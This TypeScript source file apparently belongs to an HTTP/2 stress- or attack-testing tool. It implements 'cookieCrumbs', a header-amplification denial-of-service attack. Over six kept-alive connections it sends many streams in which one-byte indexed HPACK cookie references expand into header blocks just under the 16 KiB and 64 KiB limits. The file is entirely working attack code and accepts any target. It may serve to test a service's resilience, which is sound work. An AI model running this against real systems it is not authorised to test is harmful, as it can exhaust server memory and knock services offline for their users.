/** Requests with many cookies: each costs one byte to send (RFC 9113, 8.2.3; RFC 7541, 6.1). */
import { keepConnected } from "../wire/crowd.js";
import { Http2Connection } from "../wire/http2-connection.js";
import { encodeIndexedCookie, encodeRequestBlock, LATEST_ENTRY } from "../wire/http2-frames.js";
import { STREAMS } from "./bodies-http2.js";
import type { Attack } from "./attack.js";

const CONNECTIONS = 6;

interface Variant {
  readonly acknowledgesSettings: boolean;
  readonly crumbs: number;
  readonly valueBytes: number;
}

/** HPACK counts 38 bytes more for each cookie. Node.js accepts 128 header fields. */
const variants: readonly Variant[] = [
  // Just below 16 KiB, the default limit of the service.
  { acknowledgesSettings: true, crumbs: 110, valueBytes: 92 },
  // Just below 64 KiB, the limit until the client acknowledges the settings.
  { acknowledgesSettings: false, crumbs: 118, valueBytes: 482 },
];

export const cookieCrumbs: Attack = (target, tally, signal) =>
  keepConnected(target, tally, signal, {
    count: CONNECTIONS,
    use(socket, index) {
      const variant = variants[index % variants.length];
      if (variant === undefined) return;
      const { acknowledgesSettings, crumbs, valueBytes } = variant;
      const request = encodeRequestBlock("GET", "/livez");
      const cookie = encodeIndexedCookie(`a=${"b".repeat(valueBytes - 2)}`);
      const first = Buffer.concat([request, cookie, Buffer.alloc(crumbs - 1, LATEST_ENTRY)]);
      const next = Buffer.concat([request, Buffer.alloc(crumbs, LATEST_ENTRY)]);
      const onStreamEnd = () => connection.request(next);
      const connection = new Http2Connection(socket, tally, { acknowledgesSettings, onStreamEnd });
      for (let stream = 0; stream < STREAMS; stream++) connection.request(stream === 0 ? first : next);
    },
  });
